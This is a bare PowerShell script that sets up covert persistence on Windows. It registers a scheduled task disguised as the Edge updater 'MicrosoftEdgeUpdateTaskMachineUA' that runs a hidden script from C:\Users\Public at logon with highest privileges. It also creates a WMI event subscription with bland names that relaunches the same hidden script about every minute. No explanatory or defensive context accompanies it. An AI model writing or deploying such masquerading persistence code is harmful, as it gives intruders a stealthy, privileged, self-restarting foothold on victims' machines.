$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-NoP -W Hidden -File C:\Users\Public\sync.ps1'
$trigger = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateTaskMachineUA' -Action $action -Trigger $trigger -RunLevel Highest -Force | Out-Null

$ns = 'root\subscription'
$query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"
$filter = New-CimInstance -Namespace $ns -ClassName __EventFilter -Property @{ Name = 'SCM Event Filter'; EventNamespace = 'root\cimv2'; QueryLanguage = 'WQL'; Query = $query }
$consumer = New-CimInstance -Namespace $ns -ClassName CommandLineEventConsumer -Property @{ Name = 'SCM Event Consumer'; CommandLineTemplate = 'powershell.exe -NoP -W Hidden -File C:\Users\Public\sync.ps1' }
New-CimInstance -Namespace $ns -ClassName __FilterToConsumerBinding -Property @{ Filter = [ref]$filter; Consumer = [ref]$consumer } | Out-Null
